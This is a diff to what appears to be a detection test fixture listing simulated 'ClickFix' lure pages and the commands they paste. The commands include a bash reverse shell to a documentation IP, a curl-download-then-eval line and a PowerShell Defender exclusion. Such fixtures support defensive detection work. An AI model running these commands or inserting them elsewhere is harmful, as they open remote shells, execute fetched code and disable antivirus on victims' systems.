@@ -348,6 +348,24 @@ export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
     frame: 'top',
     command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   },
+  // A download kept in a variable, then evaluated; Defender told to look away (issue 76's last
+  // families: nothing else in either command is a sign).
+  {
+    id: 'macos-variable-eval',
+    lure: 'macos',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: 'c=$(curl -fsSL https://macos-verify.example/a); eval "$c"',
+  },
+  {
+    id: 'turnstile-defender-exclusion',
+    lure: 'turnstile',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: 'powershell -c Add-MpPreference -ExclusionPath $env:TEMP',
+  },
   // A script spelt in octal escapes, printed into a shell.
   {
     id: 'macos-printf-escapes',
